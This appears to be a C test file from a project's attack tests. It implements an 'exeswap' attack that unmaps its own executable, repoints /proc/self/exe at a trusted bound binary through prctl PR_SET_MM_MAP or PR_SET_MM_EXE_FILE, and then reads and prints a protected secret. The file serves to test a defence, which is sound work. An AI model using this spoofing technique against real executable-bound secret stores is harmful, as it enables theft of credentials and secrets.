/*
 * exeswap_lib.c - the body of tests/attack/exeswap (see exeswap.c).
 *
 * The steps, as an attacker of the agent's own uid takes them: unmap every
 * mapping of the real executable (the kernel refuses to change the link
 * while the old file is mapped), then point the link at the bound binary -
 * with prctl(PR_SET_MM_MAP, exe_fd) inside a user namespace of its own
 * (`unshare -Ur`), where it holds CAP_CHECKPOINT_RESTORE, or with
 * PR_SET_MM_EXE_FILE when run as real root - and open the secret. With
 * --map it also maps the bound binary executable, the naive way to look
 * like it runs it. Everything here runs from this library, libc and the
 * stack; it is linked with -z now so that no lazy symbol lookup walks the
 * unmapped executable, and it writes with write(2) only.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

static void say(const char *s)
{
	ssize_t n = write(1, s, strlen(s));
	(void)n;
}

static int fail(const char *step, int err)
{
	char line[128];
	const char *name = strerrorname_np(err);
	snprintf(line, sizeof(line), "%s:%s\n", step, name ? name : "?");
	say(line);
	_exit(3);
}

static int slurp(const char *path, char *buf, size_t size)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -errno;
	size_t got = 0;
	ssize_t n;
	while (got + 1 < size && (n = read(fd, buf + got, size - 1 - got)) > 0)
		got += (size_t)n;
	buf[got] = '\0';
	close(fd);
	return 0;
}

int exeswap_run(int argc, char **argv);

int exeswap_run(int argc, char **argv)
{
	int map = argc > 1 && strcmp(argv[1], "--map") == 0;
	if (argc != 3 + map) {
		say("usage: exeswap [--map] BOUND SECRET\n");
		_exit(2);
	}
	const char *bound = argv[1 + map], *secret = argv[2 + map];
	static char self[4096], stat[4096], maps[1 << 16];
	ssize_t n = readlink("/proc/self/exe", self, sizeof(self) - 1);
	if (n <= 0)
		fail("readlink", errno);
	self[n] = '\0';
	if (slurp("/proc/self/stat", stat, sizeof(stat)) < 0 ||
	    slurp("/proc/self/maps", maps, sizeof(maps)) < 0)
		fail("proc", errno);

	/* stat fields 26-28 and 45-51 (see proc(5)), counted after "(comm)" */
	unsigned long long f[53] = { 0 };
	char *p = strrchr(stat, ')');
	if (!p)
		fail("stat", EIO);
	p += 2;
	for (int i = 3; i <= 52 && *p; i++) {
		char *end;
		if (i == 3) {
			p += 2;
			continue;
		}
		f[i] = strtoull(p, &end, 10);
		p = *end ? end + 1 : end;
	}
	struct prctl_mm_map mm = {
		.start_code = f[26], .end_code = f[27], .start_stack = f[28],
		.start_data = f[45], .end_data = f[46], .start_brk = f[47],
		.brk = (uint64_t)syscall(SYS_brk, 0),
		.arg_start = f[48], .arg_end = f[49], .env_start = f[50], .env_end = f[51],
		.auxv = NULL, .auxv_size = 0,
	};
	int bfd = open(bound, O_RDONLY | O_CLOEXEC);
	if (bfd < 0)
		fail("open-bound", errno);
	mm.exe_fd = (uint32_t)bfd;

	/* every mapping of our own executable goes, and with it our link to it */
	for (char *line = maps; *line;) {
		char *nl = strchr(line, '\n');
		if (nl)
			*nl = '\0';
		unsigned long lo, hi;
		char *path = strchr(line, '/');
		if (path && strcmp(path, self) == 0 && sscanf(line, "%lx-%lx", &lo, &hi) == 2 &&
		    munmap((void *)lo, hi - lo) < 0)
			fail("munmap", errno);
		if (!nl)
			break;
		line = nl + 1;
	}
	if (prctl(PR_SET_MM, PR_SET_MM_MAP, (unsigned long)&mm, sizeof(mm), 0) < 0) {
		int err = errno;
		/* real root in the first user namespace: the old interface */
		if (prctl(PR_SET_MM, PR_SET_MM_EXE_FILE, (unsigned long)bfd, 0, 0) < 0)
			fail("prctl", err);
	}
	if (map && mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, bfd, 0) == MAP_FAILED)
		fail("mmap", errno);

	static char value[65536];
	int fd = open(secret, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		fail("open", errno);
	size_t got = 0;
	while ((n = read(fd, value + got, sizeof(value) - got)) > 0)
		got += (size_t)n;
	if (n < 0)
		fail("read", errno);
	if (write(1, value, got) != (ssize_t)got)
		_exit(4);
	_exit(0);
}
